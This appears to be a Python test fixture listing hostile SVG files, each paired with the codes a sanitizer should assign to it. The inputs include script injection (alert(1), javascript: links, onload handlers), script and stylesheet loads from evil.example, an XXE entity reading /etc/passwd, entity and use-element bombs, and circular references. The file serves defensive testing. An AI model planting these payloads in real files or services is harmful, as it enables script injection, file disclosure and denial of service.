"""Drawings that must not be kept, each with the codes it gets."""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """A file and the codes of everything that is wrong with it."""

    content: bytes
    codes: set[str]


def svg(inside: str, attributes: str = 'viewBox="0 0 10 10"', before: str = "") -> bytes:
    """A drawing of a few elements."""
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"{before}<svg {spaces} {attributes}>{inside}</svg>".encode()


def inside(text: str, *codes: str) -> Hostile:
    """A sound drawing with something inside."""
    return Hostile(svg(text), set(codes))


RECT = '<rect width="4" height="4"/>'
LAUGHS = '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FILE = '<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PUBLIC = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
HTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'
DATA = "data:image/png;base64,iVBORw0KGgo="
BOMB = '<g id="u0"><rect width="1" height="1"/></g>' + "".join(
    f'<g id="u{n}">{f"""<use href="#u{n - 1}"/>""" * 10}</g>' for n in range(1, 10)
)
SHORT_CHAIN = '<g id="c0"/>' + "".join(f'<use id="c{n}" href="#c{n - 1}"/>' for n in range(1, 80))
CHAIN = '<g id="c0"/>' + "".join(f'<use id="c{n}" href="#c{n - 1}"/>' for n in range(1, 400)) + '<use href="#c399"/>'
LONG_PATH = f'<path id="long" d="M0 0{"l1 1" * 20_000}"/>' + '<use href="#long"/>' * 200

HOSTILE: dict[str, Hostile] = {
    # acts
    "script": inside("<script>alert(1)</script>", "svg-active"),
    "script elsewhere": inside('<script xlink:href="https://evil.example/x.js"/>', "svg-active"),
    "script of HTML": inside(f"<h:script {HTML}>alert(1)</h:script>", "svg-active"),
    "script in a note": inside("<metadata><script>alert(1)</script></metadata>", "svg-active"),
    "script in an editor's note": inside(
        '<n:view xmlns:n="http://sodipodi.sourceforge.net/x"><g/><script>1</script></n:view>',
        "svg-active",
        "svg-element",
    ),
    "script in a shape": inside("<rect><script>1</script></rect>", "svg-active"),
    "script without a namespace": inside('<script xmlns="">alert(1)</script>', "svg-active"),
    "frame": inside(f'<h:iframe {HTML} src="https://evil.example"/>', "svg-active"),
    "page inside": inside("<foreignObject><p>hello</p></foreignObject>", "svg-active"),
    "page inside a switch": inside("<switch><foreignObject/></switch>", "svg-element"),
    "event": inside('<rect width="1" height="1" onclick="alert(1)"/>', "svg-active"),
    "event when loaded": Hostile(svg(RECT, 'viewBox="0 0 10 10" onload="alert(1)"'), {"svg-active"}),
    "event in capitals": inside('<rect width="1" height="1" ONLOAD="alert(1)"/>', "svg-active"),
    "event of XML": inside('<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"/>', "svg-active"),
    "event on a title": inside('<title onclick="alert(1)">x</title>', "svg-active"),
    "handler": inside("<handler>alert(1)</handler>", "svg-active"),
    "link": inside('<a href="https://evil.example"><rect width="1" height="1"/></a>', "svg-active"),
    "link to a script": inside('<a xlink:href="javascript:alert(1)"/>', "svg-active"),
    "use of a script": inside('<use href="javascript:alert(1)"/>', "svg-active"),
    "use of a script with a tab": inside('<use href="java&#9;script:alert(1)"/>', "svg-outside"),
    "animation": inside('<rect width="1" height="1"><animate attributeName="x" to="9"/></rect>', "svg-active"),
    "animated href": inside('<use><set attributeName="href" to="javascript:alert(1)"/></use>', "svg-active"),
    "animated transform": inside("<g><animateTransform/></g>", "svg-active"),
    "film": inside('<video xlink:href="https://evil.example"/>', "svg-active"),
    # reaches outside
    "picture": inside('<image href="https://evil.example/x.png"/>', "svg-picture-inside"),
    "picture of the disk": inside('<image xlink:href="file:///etc/passwd"/>', "svg-picture-inside"),
    "picture as data": inside(f'<image href="{DATA}"/>', "svg-picture-inside"),
    "drawing as data": inside('<image href="data:image/svg+xml,&lt;svg/>"/>', "svg-picture-inside"),
    "use from outside": inside('<use href="https://evil.example/x.svg#a"/>', "svg-outside"),
    "use of data": inside('<use href="data:image/svg+xml;base64,PHN2Zz4=#a"/>', "svg-outside"),
    "use of another file": inside('<use xlink:href="other.svg#a"/>', "svg-outside"),
    "fill from outside": inside('<rect width="1" height="1" fill="url(https://evil.example/#a)"/>', "svg-outside"),
    "fill in a style": inside('<rect style="fill:url(//evil.example/#a)"/>', "svg-outside"),
    "fill in quotes": inside("<rect style=\"fill:url( '//evil.example/#a')\"/>", "svg-outside"),
    "fill as data": inside(f'<rect fill="url({DATA})"/>', "svg-outside"),
    "gradient from outside": inside('<linearGradient href="https://evil.example/#a"/>', "svg-outside"),
    "cursor": inside('<g cursor="url(https://evil.example/c.cur)"/>', "svg-outside"),
    "filter from outside": inside('<g filter="url(https://evil.example/#f)"/>', "svg-outside"),
    "base": inside('<g xml:base="https://evil.example/"/>', "svg-outside"),
    "style sheet": Hostile(svg(RECT, before='<?xml-stylesheet href="https://evil.example/x.css"?>'), {"svg-outside"}),
    "style sheet inside": inside(f'<g><?xml-stylesheet href="x.css"?>{RECT}</g>', "svg-outside"),
    "import": inside("<style>@import url(https://evil.example/x.css);</style>", "svg-style-sheet"),
    "import after a rule": inside("<style>.a{fill:red}@import 'x.css';</style>", "svg-style-sheet"),
    "font from outside": inside(
        "<style>@font-face{font-family:x;src:url(https://evil.example)}</style>", "svg-style-sheet"
    ),
    "address in a style sheet": inside(
        '<style>.a{fill:url(https://evil.example/#a)}</style><rect class="a"/>', "svg-outside"
    ),
    "escaped address": inside(r'<rect style="fill:\75rl(https://evil.example)"/>', "svg-style"),
    "escape in an attribute": inside(r'<rect fill="\75rl(https://evil.example)"/>', "svg-value"),
    "import in a style": inside("<rect style=\"@import 'x'\"/>", "svg-style"),
    "rules for dark screens": inside(
        "<style>@media (prefers-color-scheme: dark){.a{fill:white}}</style>", "svg-style-sheet"
    ),
    "rules for everything": inside("<style>*{display:none}</style>", "svg-style-sheet"),
    "style sheet for printers": inside('<style media="print">.a{fill:red}</style>', "svg-style-sheet"),
    # looks different elsewhere
    "text": inside('<text x="1" y="1">Bank</text>', "svg-letters"),
    "font": inside("<font><glyph/></font>", "svg-letters"),
    "filter": inside('<filter id="f"/><g filter="url(#f)"/>', "svg-element", "svg-attribute"),
    "mask": inside('<mask id="m"/><g mask="url(#m)"/>', "svg-element", "svg-attribute"),
    "pattern": inside('<pattern id="p"/>', "svg-element"),
    "symbol": inside('<symbol id="s"/>', "svg-element"),
    "drawing inside": inside('<svg viewBox="0 0 1 1"/>', "svg-element"),
    "blend": inside('<g style="mix-blend-mode:multiply"/>', "svg-attribute"),
    "rule for clipping": inside('<clipPath id="c"><path clip-rule="evenodd" d="M0 0h1"/></clipPath>', "svg-attribute"),
    "rule around clipping": inside('<g style="clip-rule:evenodd"><clipPath id="c"/></g>', "svg-attribute"),
    "rule for what clips": inside(
        '<path id="p" clip-rule="evenodd" d="M0 0h1"/><clipPath><use href="#p"/></clipPath>', "svg-attribute"
    ),
    "effect of one browser": inside('<g style="-webkit-filter:blur(1px)"/>', "svg-attribute"),
    "by language": inside('<g systemLanguage="de"/>', "svg-attribute"),
    "place in a style": inside('<rect style="x:4px;width:3px"/>', "svg-attribute"),
    "reference in a style": inside(f'<g id="a">{RECT}</g><use style="href:#a"/>', "svg-attribute"),
    "repeated gradient": inside('<linearGradient spreadMethod="repeat" x2="0.0000001"/>', "svg-attribute"),
    "element of somebody": inside('<x:y xmlns:x="https://example.com/x"/>', "svg-element"),
    "attribute of somebody": inside('<g xmlns:x="https://example.com/x" x:y="1"/>', "svg-attribute"),
    "shape without a namespace": inside('<rect xmlns="" width="1" height="1"/>', "svg-element"),
    "two references": inside(f'<g id="a">{RECT}</g><g id="b"/><use href="#a" xlink:href="#b"/>', "svg-value"),
    "unit of a font": inside('<rect width="1em" height="1"/>', "svg-value"),
    "half a path": inside('<path d="M0 0 L1 1 2"/>', "svg-value"),
    "no path": inside('<path d="L0 0"/>', "svg-value"),
    "endless number": inside('<path d="M0 0L1e99 1"/>', "svg-value"),
    "negative width": inside('<rect width="-4" height="1"/>', "svg-value"),
    "flattened": inside('<g transform="scale(0 1)"/>', "svg-value"),
    "calculated": inside('<rect width="calc(1px + 1px)" height="1"/>', "svg-value"),
    "colour of a variable": inside('<rect fill="var(--x)"/>', "svg-value"),
    "important": inside('<rect style="fill:red !important"/>', "svg-value"),
    # grows
    "laughs": Hostile(svg("&b;", before=LAUGHS), {"svg-doctype"}),
    "file as entity": Hostile(svg("&secret;", before=FILE), {"svg-doctype"}),
    "document type": Hostile(svg(RECT, before=PUBLIC), {"svg-doctype"}),
    "entity without type": Hostile(svg("&secret;"), {"svg-unreadable"}),
    "use that multiplies": inside(f"{BOMB}<use href='#u9'/>", "svg-too-complex"),
    "use in a long chain": inside(CHAIN, "svg-too-complex"),
    "use in a shorter chain": inside(SHORT_CHAIN, "svg-too-complex"),
    "shape of nothing": inside('<polygon fill="red"/>', "svg-value"),
    "long path used often": inside(LONG_PATH, "svg-too-complex"),
    "use of itself": inside('<use id="a" href="#a"/>', "svg-reference-circular"),
    "use of what is around it": inside('<g id="a"><use href="#a"/></g>', "svg-reference-circular"),
    "circle of uses": inside('<use id="a" href="#b"/><use id="b" href="#a"/>', "svg-reference-circular"),
    "circle of gradients": inside(
        '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>', "svg-reference-circular"
    ),
    "clipping itself": inside(
        '<clipPath id="a"><rect width="1" height="1" clip-path="url(#a)"/></clipPath>', "svg-reference-circular"
    ),
    "deep": inside("<g>" * 40 + "</g>" * 40, "svg-too-complex"),
    "deeper than parsers go": inside("<g>" * 5000 + "</g>" * 5000, "svg-unreadable"),
    "many": inside("<g/>" * 6000, "svg-too-complex"),
    "dashes": Hostile(svg('<path d="M0 0H90000" stroke-dasharray="0.001"/>', 'viewBox="0 0 100 10"'), {"svg-value"}),
    "dashes of nothing": inside('<path d="M0 0H9" stroke-dasharray="0 0"/>', "svg-value"),
    "many rules": inside("<style>" + ".a{fill:red}" * 300 + "</style>", "svg-style-sheet"),
    "large": Hostile(svg(RECT) + b" " * 1_000_000, {"asset-too-large"}),
    # is nothing one could draw
    "use of nothing": inside('<use href="#nobody"/>', "svg-reference-unknown"),
    "fill with a shape": inside('<rect id="a"/><rect fill="url(#a)"/>', "svg-reference-unknown"),
    "one name twice": inside('<g id="a"/><g id="a"/><use href="#a"/>', "svg-id-twice"),
    "no size": Hostile(svg(RECT, 'width="4" height="4"'), {"svg-without-size"}),
    "size of nothing": Hostile(svg(RECT, 'viewBox="0 0 0 10"'), {"svg-value", "svg-without-size"}),
    "width of nothing": Hostile(svg(RECT, 'viewBox="0 0 9 10" width="0"'), {"svg-without-size"}),
    "cut off": Hostile(svg(RECT)[:-8], {"svg-unreadable"}),
    "no namespace": Hostile(b'<svg viewBox="0 0 1 1"/>', {"asset-not-its-kind"}),
    "page": Hostile(b"<html><body>hello</body></html>", {"asset-not-its-kind"}),
    "other encoding": Hostile(svg(RECT).decode().encode("utf-16"), {"asset-not-its-kind"}),
    "hidden encoding": Hostile(svg("<g>+ADw-script+AD4-</g>", before='<?xml version="1.0" encoding="utf-7"?>'), set()),
    "empty": Hostile(b"", {"asset-not-its-kind"}),
    "several": inside('<text/><rect onclick="1"/>', "svg-letters", "svg-active"),
}
